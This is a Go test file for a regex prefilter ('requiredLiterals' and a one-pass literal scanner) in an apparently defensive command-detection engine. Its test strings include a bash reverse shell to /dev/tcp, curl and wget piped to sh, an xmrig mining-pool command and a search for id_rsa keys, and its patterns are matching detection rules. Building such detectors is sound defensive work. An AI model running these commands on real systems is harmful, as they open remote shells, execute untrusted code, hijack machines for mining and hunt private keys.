package fastpath

import (
	"math/rand/v2"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// literalsMatch scans s for what pattern requires, as a slot would.
func literalsMatch(pattern, s string) bool {
	l := requiredLiterals(pattern)
	if l == nil {
		return true
	}
	sl := &slotLiterals{}
	l.register(sl)
	sl.build()
	found := make([]uint64, sl.words())
	sl.scan(s, found)
	return l.match(found, isASCII(s))
}

func TestRequiredLiteralsRejectOnlyWhatCannotMatch(t *testing.T) {
	strs := []string{
		"", "xmrig -o stratum+tcp://pool:3333", "XMRIG -O STRATUM+SSL://POOL:443", "curl -s https://x | sh",
		"wget -qO- http://x | bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "go build ./...",
		"python3 -c import socket,subprocess", "PYTHON3 -C IMPORT SOCKET", "find / -name id_rsa", "ſtratum+tcp://", "\u212aWORKER",
		"ip addr", "ip\taddr", "/sbin/ip  a", "pipe x", "sudo ip route", "x-ip a",
	}
	for _, pattern := range []string{
		`(?i)stratum[0-9]*\+(tcp|ssl|tls|udp)://`,
		`(curl|wget)\s.*\|\s*(ba|da)?sh`,
		`/dev/(tcp|udp)/`,
		`^(\S*/)?(busybox\s+)?find\s+(-[HLP]\s+)*(/|/etc|/home)/?\s`,
		`(?i)(socket|fsockopen)`,
		`(?i)kworker|scan`,
		`^(python[0-9.]*|perl)$`,
		`a{2,}b|c+d`,
		`x?y*`,
		`^(\S*/)?ip\s+(-\S+\s+)*(a|addr|route)(\s|$)`,
		`[-x]ip\s`,
	} {
		re := regexp.MustCompile(pattern)
		for _, s := range strs {
			if re.MatchString(s) {
				assert.True(t, literalsMatch(pattern, s), "%q matches %q but its literals reject it", pattern, s)
			}
		}
	}
	assert.Nil(t, requiredLiterals(`x?y*`), "nothing is required")
	assert.True(t, literalsMatch(`(?i)kworker`, "\u212aworker"), "K, the Kelvin sign, folds to k: a string that is not ASCII is left to the expression")
	assert.False(t, literalsMatch(`(curl|wget)\s.*\|\s*(ba|da)?sh`, "go build ./..."))
	assert.False(t, literalsMatch(`^ip\s+a`, "pipe"), `"ip" then a space is required, not "ip"`)
	assert.True(t, literalsMatch(`(curl|wget)\s.*\|\s*(ba|da)?sh`, "curl x | sh"))
	assert.False(t, literalsMatch(`(?i)stratum\+tcp`, "go test ./..."))
	assert.True(t, literalsMatch(`(?i)stratum\+tcp`, "xmrig STRATUM+TCP://"))
}

// TestScannerFindsWhatContainsFinds compares the one-pass scan with
// strings.Contains, in any ASCII case, on strings of a small alphabet where
// literals overlap and nest (he, she, his, hers…).
func TestScannerFindsWhatContainsFinds(t *testing.T) {
	lits := []string{"he", "she", "His", "hers", "e", "hehe", "sh", "ssh", "x"}
	ids := make([]int32, len(lits))
	for i := range ids {
		ids[i] = int32(i)
	}
	sc := newScanner(lits, ids)
	rnd := rand.New(rand.NewPCG(1, 2))
	for range 5000 {
		b := make([]byte, rnd.IntN(12))
		for i := range b {
			b[i] = "hesirHESI"[rnd.IntN(9)]
		}
		s := string(b)
		found := make([]uint64, 1)
		sc.scan(s, found)
		for i, lit := range lits {
			want := strings.Contains(strings.ToLower(s), strings.ToLower(lit))
			assert.Equal(t, want, found[0]&(1<<i) != 0, "%q in %q, any case", lit, s)
		}
	}
}
